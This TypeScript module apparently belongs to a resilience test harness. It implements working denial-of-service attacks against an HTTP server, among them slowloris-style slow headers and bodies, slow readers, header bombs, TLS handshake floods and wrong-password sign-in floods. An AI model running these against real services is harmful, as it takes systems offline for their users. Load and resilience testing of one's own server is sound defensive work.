/** The attacks, each as one function over a crowd of connections. */
import { randomBytes } from 'node:crypto';
import type { Socket } from 'node:net';
import type { AttackerResult, AttackerSettings } from './attacker-client.ts';
import type { Crowd } from './crowd.ts';
import { junkSignIns } from './junk-sign-ins.ts';

type Attack = (crowd: Crowd, settings: AttackerSettings) => Promise<AttackerResult>;

/** One octet of a slow connection every so many milliseconds. */
const DRIP = 10_000;

/** Size of the answer that slow readers do not read. */
const LARGE = 100 * 1024 * 1024;

/** A request head; `lines` stand between Host and the empty line. */
const head = (host: string, request: string, lines: readonly string[] = []): string =>
  `${request} HTTP/1.1\r\nHost: ${host}\r\n${lines.map((line) => `${line}\r\n`).join('')}\r\n`;

/** Sends one octet of each connection at a time, the connections spread over the interval. */
function drip(crowd: Crowd, octet: string): NodeJS.Timeout {
  let turn = 0;
  const parts = 100;
  return setInterval(() => {
    let index = 0;
    for (const socket of crowd.begun) if (index++ % parts === turn) socket.write(octet);
    turn = (turn + 1) % parts;
  }, DRIP / parts);
}

/** Connections that are opened, each with its beginning, and fed an octet at a time. */
const slowly =
  (first: (host: string) => string, octet: string): Attack =>
  async (crowd, { host, connections }) => {
    const text = first(host);
    const timer = drip(crowd, octet);
    await crowd.fill(connections, (socket) => socket.write(text));
    await crowd.untilClosed();
    clearInterval(timer);
    return crowd.finish();
  };

/** A burst on each connection, which then waits for its end. */
const atRate =
  (burst: (host: string) => string | Buffer, then: (socket: Socket) => void = () => {}): Attack =>
  async (crowd, { host }) => {
    await crowd.atRate(() => {
      void crowd.begin().then((socket) => {
        if (socket === undefined) return;
        socket.write(burst(host));
        then(socket);
      });
    });
    return crowd.finish();
  };

const form = 'Content-Type: application/x-www-form-urlencoded';

export const KINDS: Readonly<Record<string, Attack>> = {
  'silent connections': slowly(() => '', ''),
  'idle connections': slowly((host) => head(host, 'GET /public/ok'), ''),
  'slow headers': slowly((host) => `GET /public/ok HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `, 'a'),
  'slow bodies to an application': slowly(
    (host) => head(host, 'POST /public/upload', ['Content-Length: 1000000']),
    'a',
  ),
  'slow bodies to the sign-in page': slowly(
    (host) => head(host, 'POST /_sumun/login', [form, 'Content-Length: 2000']),
    'a',
  ),
  'slow forms without a session': slowly(
    (host) => head(host, 'POST /app9/form', [form, 'Accept: text/html', 'Content-Length: 2000']),
    'a',
  ),
  'slow readers': async (crowd, { host, connections }) => {
    const request = head(host, `GET /public/download?size=${LARGE}`);
    await crowd.fill(connections, (socket) => {
      socket.write(request);
      // The answer begins and is then left in the buffers of the system.
      socket.once('data', () => socket.pause());
    });
    await crowd.untilClosed();
    return crowd.finish();
  },
  'connections opened and reset': async (crowd) => {
    await crowd.atRate(() => void crowd.begin({ bare: true }).then((socket) => socket?.resetAndDestroy()));
    return crowd.finish();
  },
  'header sections of 32 KiB and one octet': atRate((host) =>
    head(host, 'GET /public/ok', [`X-Bomb: ${'a'.repeat(32 * 1024 + 1)}`]),
  ),
  '10,000 header fields': atRate((host) =>
    head(
      host,
      'GET /public/ok',
      Array.from({ length: 10_000 }, () => 'a:'),
    ),
  ),
  'octets at random': atRate(() => randomBytes(512)),
  'TLS handshakes begun and left': async (crowd) => {
    await crowd.atRate(() => {
      void crowd.begin({ bare: true }).then((socket) => socket?.write(randomBytes(64)));
    });
    return crowd.finish();
  },
  'TLS handshakes': async (crowd) => {
    await crowd.atRate(() => void crowd.begin().then((socket) => socket?.destroy()));
    return crowd.finish();
  },
  'sign-ins with a wrong password': junkSignIns,
};
